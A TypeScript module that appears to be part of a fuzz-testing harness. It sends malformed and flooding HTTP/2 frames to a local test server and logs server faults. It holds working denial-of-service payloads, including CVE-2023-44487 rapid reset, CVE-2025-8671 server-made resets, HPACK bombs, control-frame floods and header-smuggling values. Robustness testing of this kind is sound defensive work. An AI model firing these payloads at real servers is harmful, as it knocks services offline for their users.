import type { Arena, Attack } from "./attack.ts";
import { flags, frame, frameTypes, headerBlock, hpackInteger, http2Exchange, isServerError, preface } from "./http2-wire.ts";
import type { Random } from "./random.ts";

const { data, headers, priority, reset, settings, pushPromise, ping, goaway, windowUpdate, continuation } = frameTypes;
const noSettings = frame(settings, 0, 0);
const start = Buffer.concat([preface, noSettings]);

/** HTTP/2 frames on raw sockets: invalid ones, and floods of valid ones. */
export const http2Attacks: readonly Attack[] = [
  { name: "http2: broken frames", weight: 14, run: (arena) => send(arena, "http2: broken frames", brokenFrames(arena)) },
  { name: "http2: broken headers", weight: 8, run: (arena) => send(arena, "http2: broken headers", brokenHeaders(arena)) },
  { name: "http2: HPACK bombs", weight: 3, run: (arena) => send(arena, "http2: HPACK bombs", hpackBomb(arena)) },
  { name: "http2: rapid reset", weight: 3, run: (arena) => send(arena, "http2: rapid reset", rapidReset(arena)) },
  { name: "http2: resets by the server", weight: 2, run: (arena) => send(arena, "http2: resets by the server", madeReset(arena)) },
  { name: "http2: open streams", weight: 3, run: (arena) => send(arena, "http2: open streams", openStreams(arena)) },
  { name: "http2: control floods", weight: 3, run: (arena) => send(arena, "http2: control floods", controlFlood(arena.random)) },
];

/** Sends one of the list's attacks after a preface, sometimes with a valid request before it. */
async function send(arena: Arena, attack: string, bytes: Buffer): Promise<void> {
  arena.report.count(attack, 1);
  const { frames } = await http2Exchange(arena.port, bytes);
  for (const received of frames) {
    if (isServerError(received)) arena.report.fault(attack, "answered :status 5xx");
    // Node ends a session with GOAWAY and INTERNAL_ERROR after an unexpected PING acknowledgement. Only the attacker sees this.
    if (received.type === reset && received.payload.readUInt32BE(0) === 2) arena.report.fault(attack, "RST_STREAM with INTERNAL_ERROR");
  }
}

function request(arena: Arena, more: readonly (readonly [string, string])[] = [], path = "/v2alpha1/admin/apiKeys:verify"): Buffer {
  return headerBlock([
    [":method", "POST"],
    [":scheme", "http"],
    [":path", path],
    [":authority", "localhost"],
    ["authorization", `Bearer ${arena.adminToken}`],
    ["content-type", "application/json"],
    ...more,
  ]);
}

function brokenFrames(arena: Arena): Buffer {
  const { random } = arena;
  const open = frame(headers, flags.endHeaders, 1, request(arena));
  const body = Buffer.from('{"credential":"x"}');
  const u32 = (value: number) => {
    const bytes = Buffer.alloc(4);
    bytes.writeUInt32BE(value >>> 0);
    return bytes;
  };
  const parts = random.pick<() => Buffer[]>([
    () => [preface.subarray(0, random.below(24)), random.bytes(40)],
    () => [preface, random.bytes(100)],
    () => [preface, frame(ping, 0, 0, Buffer.alloc(8))],
    () => [preface, frame(settings, 0, 0, Buffer.alloc(5))],
    () => [preface, frame(settings, 0, 1, Buffer.alloc(6))],
    () => [preface, frame(settings, flags.ack, 0, Buffer.alloc(6))],
    () => [preface, frame(settings, 0, 0, Buffer.concat([Buffer.from([0, 4]), u32(0xffffffff)]))],
    () => [preface, frame(settings, 0, 0, Buffer.concat([Buffer.from([0, 5]), u32(random.pick([0, 1, 0xffffff + 1]))]))],
    () => [preface, frame(settings, 0, 0, Buffer.concat([Buffer.from([0, 2]), u32(2)]))],
    () => [preface, frame(settings, 0, 0, Buffer.alloc(6 * 200, 1))],
    () => [preface, frame(settings, 0, 0, Buffer.concat([Buffer.from([0, 1]), u32(0xffffffff), Buffer.from([0, 6]), u32(0)])), open],
    () => [start, frame(random.below(256), random.below(256), random.below(8), random.bytes(random.below(64)))],
    () => [start, frame(data, 0, random.pick([0, 1, 2, 99]), body)],
    () => [start, frame(data, 0, 1, body, 0xffffff)],
    () => [start, frame(headers, flags.endHeaders, 1, request(arena), 5)],
    () => [start, frame(headers, 0, 1, request(arena)), frame(data, 0, 1, body)],
    () => [start, frame(headers, 0, 1, request(arena)), frame(continuation, 0, 3, Buffer.alloc(5))],
    () => [
      start,
      frame(headers, 0, 1, request(arena)),
      ...Array.from({ length: 300 }, () => frame(continuation, 0, 1, headerBlock([["x", "y"]]))),
    ],
    () => [start, frame(headers, 0, 1, request(arena)), ...Array.from({ length: 300 }, () => frame(continuation, 0, 1))],
    () => [start, frame(continuation, flags.endHeaders, 1, request(arena))],
    () => [start, open, frame(data, flags.padded, 1, Buffer.from([200, 1, 2]))],
    () => [start, open, frame(data, flags.endStream, 1, body), frame(data, flags.endStream, 1, body)],
    () => [start, open, frame(headers, flags.endHeaders, 1, request(arena))],
    () => [start, open, frame(headers, flags.endHeaders | flags.endStream, 1, headerBlock([[":status", "200"]]))],
    () => [start, open, frame(headers, flags.endHeaders | flags.endStream, 1, headerBlock([["grpc-status", "0"]]))],
    () => [start, frame(headers, flags.endHeaders | flags.priority, 1, Buffer.concat([u32(1), Buffer.from([5]), request(arena)]))],
    () => [start, frame(priority, 0, 1, Buffer.concat([u32(1), Buffer.from([1])]))],
    () => [start, frame(priority, 0, 1, Buffer.alloc(3))],
    () => [start, frame(windowUpdate, 0, 0, u32(0))],
    () => [start, frame(windowUpdate, 0, 0, u32(0x7fffffff)), frame(windowUpdate, 0, 0, u32(0x7fffffff))],
    () => [start, open, frame(windowUpdate, 0, 1, u32(0x7fffffff)), frame(windowUpdate, 0, 1, u32(1))],
    () => [start, frame(windowUpdate, 0, 5, u32(1))],
    () => [start, frame(reset, 0, 1, u32(8))],
    () => [start, open, frame(reset, 0, 1, Buffer.alloc(3))],
    () => [start, frame(pushPromise, flags.endHeaders, 1, Buffer.concat([u32(2), request(arena)]))],
    () => [start, frame(ping, 0, 1, Buffer.alloc(8))],
    () => [start, frame(ping, 0, 0, Buffer.alloc(7))],
    () => [start, frame(goaway, 0, 0, Buffer.alloc(4))],
    () => [start, open, frame(goaway, 0, 0, Buffer.alloc(8)), frame(data, flags.endStream, 1, body)],
    () => [start, frame(headers, flags.endHeaders, 2, request(arena))],
    () => [start, frame(headers, flags.endHeaders, 0, request(arena))],
    () => [start, frame(headers, flags.endHeaders, 5, request(arena)), frame(headers, flags.endHeaders, 3, request(arena))],
    () => [start, ...Array.from({ length: 150 }, (_, index) => frame(headers, flags.endHeaders, 1 + 2 * index, request(arena)))],
    () => [start, open, ...Array.from({ length: 8 }, () => frame(data, 0, 1, Buffer.alloc(16_384)))],
    () => [start, open, ...Array.from({ length: 300 }, () => frame(data, 0, 1))],
    () => [start, frame(headers, flags.endHeaders, 0x7fffffff, request(arena)), frame(headers, flags.endHeaders, 1, request(arena))],
    () => [start, open, frame(data, flags.endStream, 1, body)],
  ])();
  return Buffer.concat(parts);
}

function brokenHeaders(arena: Arena): Buffer {
  const { random } = arena;
  const method = [":method", "POST"] as const;
  const scheme = [":scheme", "http"] as const;
  const path = [":path", "/v2alpha1/admin/apiKeys:verify"] as const;
  const block = random.pick<() => Buffer>([
    () => headerBlock([]),
    () => headerBlock([method, scheme]),
    () => headerBlock([method, scheme, path, path]),
    () => headerBlock([method, scheme, [":path", ""]]),
    () =>
      headerBlock([
        method,
        scheme,
        [":path", random.pick(["*", "x", "//", "/\0", "/ a", `/${"a".repeat(10_000)}`, "/\xff", "/a b", "/..", "http://x/y"])],
      ]),
    () =>
      headerBlock([
        [":method", random.pick(["", "CONNECT", "connect", "A B", "\0", "PRI", "HEAD", "OPTIONS", "TRACE", "x".repeat(5000)])],
        scheme,
        path,
      ]),
    () =>
      headerBlock([
        [":method", "CONNECT"],
        [":authority", "evil.example:443"],
      ]),
    () => headerBlock([[":method", "CONNECT"], [":protocol", "websocket"], scheme, path, [":authority", "localhost"]]),
    () => headerBlock([method, [":scheme", random.pick(["", "https", "ftp", "\0"])], path]),
    () => headerBlock([method, scheme, path, [":status", "200"]]),
    () => headerBlock([method, scheme, path, [":unknown", "x"]]),
    () => headerBlock([["x", "y"], method, scheme, path]),
    () => request(arena, [["Upper-Case", "x"]]),
    () => request(arena, [["connection", "keep-alive"]]),
    () => request(arena, [["transfer-encoding", "chunked"]]),
    () => request(arena, [["te", "gzip"]]),
    () => request(arena, [["upgrade", "h2c"]]),
    () => request(arena, [["content-length", random.pick(["-1", "5", "x", "99999999999999999999", "1, 1", ""])]]),
    () =>
      request(arena, [
        ["content-length", "5"],
        ["content-length", "6"],
      ]),
    () => request(arena, [["x", random.pick(["a\0b", "a\r\nb: c", "\xff\xfe", " lead", "a".repeat(20_000)])]]),
    () => request(arena, [[random.pick(["", " ", "a b", "a:b", "\xff", "a\0"]), "x"]]),
    () =>
      request(
        arena,
        Array.from({ length: random.pick([101, 1000]) }, (_, index) => [`x-${index}`, "1"] as const),
      ),
    () => request(arena, [["host", "other"]]),
    () =>
      request(arena, [
        ["cookie", "a=b"],
        ["cookie", "c=d"],
        ["cookie", ""],
      ]),
    () => Buffer.concat([request(arena), random.bytes(20)]),
  ])();
  const parts = [start, frame(headers, flags.endHeaders, 1, block.subarray(0, 16_384))];
  if (random.chance(0.8)) parts.push(frame(data, flags.endStream, 1, Buffer.from('{"credential":"x"}')));
  return Buffer.concat(parts);
}

function hpackBomb(arena: Arena): Buffer {
  const { random } = arena;
  const literal = Buffer.concat([Buffer.from([0x40, 1, 0x61]), hpackInteger(4000, 7, 0), Buffer.alloc(4000, "b")]);
  const block = random.pick<() => Buffer>([
    // One large entry in the table, then thousands of references to it.
    () => Buffer.concat([request(arena), literal, Buffer.alloc(10_000, 0xbe)]),
    () => Buffer.concat([request(arena), hpackInteger(2 ** 31, 5, 0x20)]),
    () => Buffer.concat([request(arena), hpackInteger(70_000, 7, 0x80)]),
    () => Buffer.concat([request(arena), Buffer.from([0x80])]),
    () => Buffer.concat([request(arena), Buffer.from([0xff, ...Array.from({ length: 30 }, () => 0xff)])]),
    () => Buffer.concat([request(arena), Buffer.from([0, 1, 0x61]), hpackInteger(2 ** 28, 7, 0)]),
    () => Buffer.concat([request(arena), Buffer.from([0, 1, 0x61, 0x84, 0xff, 0xff, 0xff, 0xff])]),
    () => Buffer.concat([request(arena), Buffer.from([0, 1, 0x61, 0x81, 0x00])]),
    () => Buffer.concat([...Array.from({ length: 2000 }, () => Buffer.from([0x20, 0x3f, 0xe1, 0x1f])), request(arena)]),
  ])();
  const pieces = Array.from({ length: Math.ceil(block.length / 16_000) }, (_, index) =>
    block.subarray(index * 16_000, (index + 1) * 16_000),
  );
  return Buffer.concat([
    start,
    ...pieces.map((piece, index) =>
      frame(index === 0 ? headers : continuation, index === pieces.length - 1 ? flags.endHeaders : 0, 1, piece),
    ),
  ]);
}

/** CVE-2023-44487: a hundred streams, each cancelled as soon as it is open, sometimes in the middle of its body. */
function rapidReset(arena: Arena): Buffer {
  const { random } = arena;
  const withBody = random.chance(0.5);
  const path = random.pick([
    "/v2alpha1/admin/apiKeys:verify",
    "/keywright.v2alpha1.ApiKeysService/AdminVerifyApiKey",
    "/grpc.health.v1.Health/Watch",
    "/nothing",
  ]);
  const block = request(arena, [], path);
  const cancel = Buffer.from([0, 0, 0, random.pick([0, 8, 2, 11])]);
  const streams = Array.from({ length: 100 }, (_, index) => {
    const id = 1 + 2 * index;
    return [
      frame(headers, flags.endHeaders, id, block),
      ...(withBody ? [frame(data, 0, id, Buffer.from('{"cred'))] : []),
      frame(reset, 0, id, cancel),
    ];
  });
  return Buffer.concat([start, ...streams.flat()]);
}

/** CVE-2025-8671: streams that the server itself must reset, because the client breaks a rule on each. */
function madeReset(arena: Arena): Buffer {
  const { random } = arena;
  const block = request(arena);
  const breaks = random.pick<(id: number) => Buffer>([
    (id) => frame(windowUpdate, 0, id, Buffer.alloc(4)),
    (id) => frame(windowUpdate, 0, id, Buffer.from([0x7f, 0xff, 0xff, 0xff])),
    (id) => frame(headers, flags.endHeaders, id, block),
  ]);
  const streams = Array.from({ length: 100 }, (_, index) => [
    frame(headers, flags.endHeaders, 1 + 2 * index, block),
    breaks(1 + 2 * index),
  ]);
  return Buffer.concat([start, ...streams.flat()]);
}

/** A hundred streams that stay open: health watches, reflection with large or empty requests, calls whose body does not arrive. */
function openStreams({ random }: Arena): Buffer {
  const path = random.pick([
    "/grpc.health.v1.Health/Watch",
    "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
    "/keywright.v2alpha1.ApiKeysService/GetJwks",
    "/v2alpha1/apiKeys:selfRevoke",
  ]);
  const contentType = random.pick(["application/grpc", "application/grpc-web+proto", "application/connect+proto", "application/json"]);
  const block = headerBlock([
    [":method", "POST"],
    [":scheme", "http"],
    [":path", path],
    [":authority", "localhost"],
    ["content-type", contentType],
    ["te", "trailers"],
  ]);
  const file = Buffer.from("\x00\x00\x00\x00\x27\x22\x25keywright.v2alpha1.ApiKeysService.GetJwks".slice(0, 44), "latin1");
  const body = random.pick([Buffer.alloc(5), Buffer.alloc(3), Buffer.concat(Array.from({ length: 20 }, () => file))]);
  const end = random.pick([0, flags.endStream]);
  const streams = Array.from({ length: 100 }, (_, index) => [
    frame(headers, flags.endHeaders, 1 + 2 * index, block),
    frame(data, end, 1 + 2 * index, body),
  ]);
  return Buffer.concat([start, ...streams.flat()]);
}

function controlFlood(random: Random): Buffer {
  const one = random.pick([
    frame(ping, 0, 0, Buffer.alloc(8)),
    frame(ping, flags.ack, 0, Buffer.alloc(8)),
    noSettings,
    frame(settings, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0])),
    frame(settings, flags.ack, 0),
    frame(windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])),
    frame(priority, 0, 1, Buffer.from([0, 0, 0, 0, 1])),
    frame(0x42, 0, 0, Buffer.alloc(16)),
  ]);
  return Buffer.concat([start, ...Array.from({ length: 100 }, () => one)]);
}
